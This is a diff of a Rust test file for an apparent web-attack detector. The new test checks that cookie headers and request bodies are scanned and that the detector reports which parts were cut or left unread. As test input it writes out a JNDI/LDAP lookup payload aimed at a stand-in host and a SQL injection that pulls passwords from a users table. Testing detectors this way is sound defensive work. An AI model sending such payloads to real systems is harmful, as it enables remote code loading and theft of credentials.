@@ -6,13 +6,18 @@ mod files;
 
 use observe::Policy;
 use proptest::prelude::*;
-use schemas::{Activity, Category, Event, EventView, Provenance, Record, Severity};
+use schemas::event::{BODY_BYTES_MAX, Part};
+use schemas::{Activity, Category, Event, EventView, Header, Provenance, Record, Severity};
 use scorer::detectors::Detectors;
 use scorer::logic::content::EVIDENCE_BYTES_MAX;
 use scorer::logic::{Hit, Rules};
 use uuid::Uuid;
 
 fn with_event<T>(uri: &str, look: impl FnOnce(&EventView<'_>) -> T) -> T {
+    look(&event(uri).view())
+}
+
+fn event(uri: &str) -> Event {
     let event = Event {
         event_id: Uuid::from_u128(1),
         source: "test".to_owned(),
@@ -39,7 +44,7 @@ fn with_event<T>(uri: &str, look: impl FnOnce(&EventView<'_>) -> T) -> T {
     };
     let mut bytes = Vec::new();
     event.encode(&mut bytes).unwrap();
-    look(&Event::decode(&bytes).unwrap())
+    Event::decode(&bytes).unwrap().to_event()
 }
 
 fn hits(rules: &mut Rules, uri: &str) -> Vec<Hit> {
@@ -311,6 +316,33 @@ fn a_credential_is_never_quoted() {
         assert!(!found.is_empty(), "{uri}");
         assert!(!format!("{found:?}").contains("hunter2"), "{found:?}");
     }
+}
+
+#[test]
+fn headers_and_bodies_are_read_and_what_was_not_is_told() {
+    let header = |name: &str, value: String| Header { name: name.to_owned(), value };
+    let attack = "a=${jndi:ldap://evil.example/a};b=1' union select password from users-- ";
+    let whole = Event {
+        headers: Some(vec![
+            header("content-type", "text/plain".to_owned()),
+            header("cookie", attack.repeat(10)),
+        ]),
+        body: Some("x".repeat(BODY_BYTES_MAX).into_bytes()),
+        cut: [Part::Uri, Part::Body].into_iter().collect(),
+        ..event(&format!("/?{}", "a=b&".repeat(2_000)))
+    };
+    let mut rules = rules();
+    let view = whole.view();
+    let hit = rules.hits(&view).map(|rule| rules.hit(rule, &view)).next().unwrap();
+    assert!(hit.evidence.iter().any(|piece| piece.place.starts_with("cookie")), "{hit:?}");
+    let told = |rule: &str| hit.evidence.iter().find(|piece| piece.rule == rule);
+    assert!(told("cut").unwrap().explanation.ends_with("uri, body"), "{hit:?}");
+    assert!(told("not_read").unwrap().explanation.contains("were not read"), "{hit:?}");
+    assert!(hit.evidence.len() <= schemas::detection::EVIDENCE_COUNT_MAX);
+    let texts = |piece: &schemas::Evidence| {
+        piece.rule.len() + piece.place.len() + piece.value.len() + piece.explanation.len()
+    };
+    assert!(hit.evidence.iter().map(texts).sum::<usize>() <= EVIDENCE_BYTES_MAX, "{hit:?}");
 }
 
 #[test]
